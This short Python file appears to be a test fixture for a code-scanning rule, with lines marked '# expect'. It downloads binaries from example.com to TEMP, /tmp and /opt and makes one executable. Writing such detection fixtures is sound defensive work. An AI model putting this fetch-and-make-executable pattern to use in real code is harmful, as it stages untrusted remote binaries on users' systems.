import os
import urllib.request

import requests

with open(os.environ["TEMP"] + "\\svc.exe", "wb") as f:
    f.write(requests.get("https://example.com/svc").content)  # expect
urllib.request.urlretrieve("https://example.com/tool", "/tmp/tool.elf")  # expect
urllib.request.urlretrieve("https://example.com/agent", "/opt/agent.bin")
os.chmod("/opt/agent.bin", 0o755)  # expect
